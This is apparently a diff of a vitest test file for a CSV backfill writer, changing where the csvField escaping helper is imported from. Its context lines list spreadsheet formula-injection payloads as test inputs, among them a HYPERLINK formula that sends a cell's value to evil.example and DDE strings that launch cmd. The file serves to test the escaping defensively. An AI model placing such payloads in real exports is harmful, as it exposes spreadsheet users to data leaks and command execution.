@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { BACKFILL_COLUMNS, writeBackfillOutput } from '../../../src/backfill/output';
-import { csvField } from '../../../src/reports/text';
+import { csvField } from '../../../src/reports/escape';
 import type { RowResult } from '../../../src/reports/types';
 
 const DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|'/C calc'!A0", '@SUM(1+1)*cmd|\'/C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
